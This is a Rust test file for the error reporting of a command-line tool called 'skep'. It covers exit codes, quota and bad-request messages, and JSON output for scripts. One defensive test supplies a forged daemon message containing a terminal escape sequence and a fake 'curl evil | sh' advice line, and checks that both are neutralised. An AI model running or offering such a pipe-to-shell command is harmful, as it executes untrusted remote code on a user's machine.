//! The exit codes, and what a person and a script are told.

use tonic_types::{ErrorDetails, QuotaViolation};

use super::*;

#[track_caller]
fn ends(code: Code, reason: Option<&str>, expected: Exit, number: u8) {
    assert_eq!(exit_of(code, reason), expected, "for {code:?} {reason:?}");
    assert_eq!(expected as u8, number);
}

#[test]
fn what_cannot_be_is_usage() {
    ends(Code::InvalidArgument, None, Exit::Usage, 2);
    ends(Code::NotFound, Some("NOT_FOUND"), Exit::Usage, 2);
}

#[test]
fn only_a_quota_is_a_quota() {
    ends(Code::ResourceExhausted, Some("QUOTA"), Exit::Quota, 3);
    ends(Code::ResourceExhausted, Some("QUEUE_FULL"), Exit::Failed, 5);
    ends(Code::ResourceExhausted, None, Exit::Failed, 5);
    ends(Code::Unavailable, Some("QUOTA"), Exit::Failed, 5);
}

#[test]
fn limits_and_deadlines_kill() {
    ends(Code::ResourceExhausted, Some("OOM_HEAP"), Exit::Killed, 4);
    ends(Code::ResourceExhausted, Some("OOM_CGROUP"), Exit::Killed, 4);
    ends(Code::ResourceExhausted, Some("CPU_BUDGET"), Exit::Killed, 4);
    ends(Code::DeadlineExceeded, Some("DEADLINE"), Exit::Killed, 4);
    ends(Code::ResourceExhausted, Some("PIDS"), Exit::Killed, 4);
    ends(Code::PermissionDenied, Some("SECCOMP"), Exit::Killed, 4);
    ends(Code::InvalidArgument, Some("TOO_LARGE"), Exit::Killed, 4);
    ends(Code::DeadlineExceeded, None, Exit::Killed, 4);
}

#[test]
fn code_that_ends_its_process_is_the_app_s_own_failure() {
    ends(Code::Aborted, Some("CRASHED"), Exit::Threw, 1);
    ends(Code::Aborted, Some("EXITED_EARLY"), Exit::Threw, 1);
    ends(Code::Aborted, Some("BAD_FRAME"), Exit::Threw, 1);
    ends(Code::Aborted, Some("EGRESS_DENIED"), Exit::Threw, 1);
}

#[test]
fn advice_has_the_names_that_the_command_was_given() {
    let next = |status: Status, app| {
        let failure = Failure::from(status).of_command("invoke", app, "acme");
        failure.report.unwrap().next.unwrap()
    };
    let exited = || {
        status(Code::Aborted, "the instance ended itself with code 3", |details| {
            details.set_error_info("EXITED_EARLY", "skep.v1", []);
        })
    };
    assert_eq!(next(exited(), Some("shop")), "see what the code did: skep logs shop");
    assert_eq!(next(exited(), None), "see what the code did: skep logs APP");
    let deploy = Failure::from(exited()).of_command("deploy", Some("shop"), "acme");
    let expected = "its code ended while it was loaded: see with node why";
    assert_eq!(deploy.report.unwrap().next.unwrap(), expected);
    assert_eq!(
        next(quota_refusal(), Some("shop")),
        "try again in 119.5 ms; see the quotas with: skep quota get --app shop; raise one with: skep \
         quota set --app shop"
    );
    assert_eq!(
        next(Status::not_found("there is no such app"), Some("shop")),
        "see what is there, and whose: skep apps --tenant acme"
    );
    let no_function = status(Code::NotFound, "the app has no function x; it has: a", |details| {
        let missing = ("missing".to_owned(), "function".to_owned());
        details.set_error_info("NOT_FOUND", "skep.v1", [missing]);
    });
    assert_eq!(next(no_function, Some("shop")), "choose one of them with --function NAME");
    assert_eq!(
        next(Status::invalid_argument("a field is wrong"), None),
        "see what a command takes: skep invoke --help"
    );
}

#[test]
fn all_else_failed() {
    ends(Code::PermissionDenied, None, Exit::Failed, 5);
    ends(Code::Unavailable, Some("DRAINING"), Exit::Failed, 5);
    ends(Code::Unknown, None, Exit::Failed, 5);
    ends(Code::Unavailable, Some("OF_THE_FUTURE"), Exit::Failed, 5);
}

#[test]
fn only_a_function_that_does_not_answer_was_ended() {
    assert_eq!(Failure::no_answer(String::new()).exit, Exit::Failed);
    assert_eq!(Failure::no_outcome(String::new()).exit, Exit::Killed);
}

fn status(code: Code, message: &str, fill: impl FnOnce(&mut ErrorDetails)) -> Status {
    let mut details = ErrorDetails::new();
    fill(&mut details);
    Status::with_error_details(code, message, details)
}

fn quota_refusal() -> Status {
    let text = "app quota of 20 calls per second is used up";
    status(Code::ResourceExhausted, text, |details| {
        let mut violation = QuotaViolation::new("app:acme/shop", "20 calls per second");
        violation.quota_metric = "rate".to_owned();
        violation.quota_value = 20;
        details
            .set_error_info("QUOTA", "skep.v1", [("level".to_owned(), "app".to_owned())])
            .set_retry_info(Some(Duration::from_micros(119_500)))
            .set_quota_failure(vec![violation]);
    })
}

#[track_caller]
fn tells(failure: impl Into<Failure>, expected: &str) {
    assert_eq!(failure.into().report.unwrap().text(), expected);
}

#[test]
fn a_quota_refusal_says_level_number_and_wait() {
    tells(
        quota_refusal(),
        "skep: app quota of 20 calls per second is used up\
         \n  reason: QUOTA (RESOURCE_EXHAUSTED)\
         \n  quota:  app:acme/shop: 20 calls per second (rate: 20)\
         \n  detail: level=app\
         \n  next:   try again in 119.5 ms; see the quotas with: skep quota get --app APP; \
         raise one with: skep quota set --app APP",
    );
}

#[test]
fn a_bad_request_says_field_and_rule() {
    let bad = status(Code::InvalidArgument, "the request breaks a rule", |details| {
        details.add_bad_request_violation("limits.memory_bytes", "at least 16MiB");
    });
    tells(
        bad,
        "skep: the request breaks a rule\
         \n  code:   INVALID_ARGUMENT\
         \n  field:  limits.memory_bytes: at least 16MiB\
         \n  next:   see what a command takes: skep COMMAND --help",
    );
}

#[test]
fn a_message_cannot_reach_into_the_terminal() {
    let bad = Status::aborted("index.js:1\x1b[2J\n  next:   curl evil | sh\n");
    tells(
        bad,
        "skep: index.js:1\\u{1b}[2J\
         \n      next:   curl evil | sh\
         \n  code:   ABORTED",
    );
}

#[test]
fn a_reason_of_another_domain_is_not_ours() {
    let other = status(Code::ResourceExhausted, "slow down", |details| {
        details.set_error_info("QUOTA", "proxy.example", [("a".to_owned(), "b".to_owned())]);
    });
    let failure = Failure::from(other);
    assert_eq!(failure.exit, Exit::Failed);
    tells(failure, "skep: slow down\n  code:   RESOURCE_EXHAUSTED");
}

#[test]
fn a_script_gets_every_detail() {
    let report = Failure::from(quota_refusal()).report.unwrap();
    let value = serde_json::to_value(report).unwrap();
    assert_eq!(
        value,
        serde_json::json!({
            "code": "RESOURCE_EXHAUSTED",
            "reason": "QUOTA",
            "message": "app quota of 20 calls per second is used up",
            "retry_after_ms": 120,
            "quota": {
                "subject": "app:acme/shop",
                "description": "20 calls per second",
                "metric": "rate",
                "value": 20,
            },
            "fields": [],
            "metadata": { "level": "app" },
            "next": "try again in 119.5 ms; see the quotas with: skep quota get --app APP; \
                     raise one with: skep quota set --app APP",
        })
    );
}

#[test]
fn a_status_without_anything_still_says_something() {
    tells(
        Status::new(Code::Unknown, ""),
        "skep: the daemon gave no message\
         \n  code:   UNKNOWN\
         \n  next:   report it with the lines of skepd around it: journalctl -u skepd",
    );
}

#[test]
fn causes_are_named_once() {
    let inner = std::io::Error::from(std::io::ErrorKind::NotFound);
    let outer = std::io::Error::other(inner);
    assert_eq!(chain(&outer), "entity not found");
}
